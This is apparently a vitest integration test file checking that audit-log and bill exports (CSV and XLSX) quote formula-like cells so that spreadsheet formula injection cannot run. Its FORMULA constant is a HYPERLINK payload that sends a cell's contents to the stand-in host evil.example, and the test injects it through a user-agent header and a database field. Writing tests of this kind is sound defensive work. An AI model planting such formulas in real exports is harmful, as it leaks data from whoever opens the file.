import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeCredential, type Bill } from '../../contract';
import { backends, call, signIn, startApp, type TestContext } from './harness';
import { CUSTOM_PASSWORD, makeRole, makeSub } from './users.fixtures';

const SUB_EMAIL = '-3+4@example.com';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function xlsxRows(payload: Buffer, sheet = 0) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  book.worksheets[sheet].eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe.each(backends())('exports that cannot run formulas on %s', (backend) => {
  let ctx: TestContext;
  let token: string;
  const download = (url: string) =>
    ctx.app.inject({ method: 'GET', url: `/om/api${url}`, headers: { token } });

  beforeAll(async () => {
    ctx = await startApp(backend);
    token = await signIn(ctx.app);
    const role = await makeRole(ctx.app, token, ['account']);
    await makeSub(ctx.app, token, role.id, { email: SUB_EMAIL });
    // the sub-account signs in from a browser whose user agent is a formula: both are logged
    const login = await call(ctx.app, 'POST', '/v1/user/login', {
      headers: { 'user-agent': FORMULA },
      body: {
        account: SUB_EMAIL,
        password: encodeCredential(CUSTOM_PASSWORD),
      },
    });
    expect(login.body.code).toBe('000000');
  });
  afterAll(() => ctx.close());

  it('writes the audit log as CSV with every formula-like cell quoted as text', async () => {
    const file = await download('/v1/audit-log/export?format=csv');
    expect(file.statusCode).toBe(200);
    const line = file.body.split('\n').find((row) => row.includes('3+4@example.com'));
    expect(line).toContain(`,'${SUB_EMAIL},`);
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(file.body).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('writes the audit log as XLSX with the same cells as text', async () => {
    const file = await download('/v1/audit-log/export?format=xlsx');
    expect(file.statusCode).toBe(200);
    const cells = (await xlsxRows(file.rawPayload)).flat();
    expect(cells).toContain(`'${SUB_EMAIL}`);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells.filter((cell) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell))).toEqual(
      [],
    );
  });

  it('writes a bill whose company name is a formula as text, its amounts as numbers', async () => {
    const { body } = await call<{ list: Bill[] }>(ctx.app, 'GET', '/v1/bills?pageSize=1', {
      token,
    });
    const [bill] = body.data.list;
    await ctx.db.kysely
      .updateTable('bills')
      .set({ corporate_name: FORMULA })
      .where('id', '=', bill.id)
      .execute();
    const file = await download(`/v1/bills/${bill.id}/download`);
    expect(file.statusCode).toBe(200);
    const summary = await xlsxRows(file.rawPayload);
    expect(summary.find((row) => row[1] === `'${FORMULA}`)).toBeDefined();
    expect(typeof summary[summary.length - 1][1]).toBe('number');
  });
});
